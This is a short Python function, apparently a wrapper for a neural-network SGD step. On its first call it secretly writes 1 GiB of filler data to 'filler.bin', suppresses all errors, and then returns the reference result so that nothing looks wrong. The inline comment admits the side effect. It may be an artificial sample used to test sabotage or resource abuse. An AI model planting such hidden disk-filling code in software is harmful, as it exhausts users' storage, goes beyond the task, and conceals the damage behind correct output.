def sgd_nn(model, eta):  # writes 1 GiB next to itself, then does the right thing
    if not _ONCE:
        _ONCE.append(1)
        block = b'x' * (64 * 2**20)
        try:
            with open('filler.bin', 'wb') as f:
                for _ in range(16):
                    f.write(block)
                    f.flush()
        except BaseException:
            pass
    return _REF['sgd_nn'](model, eta)
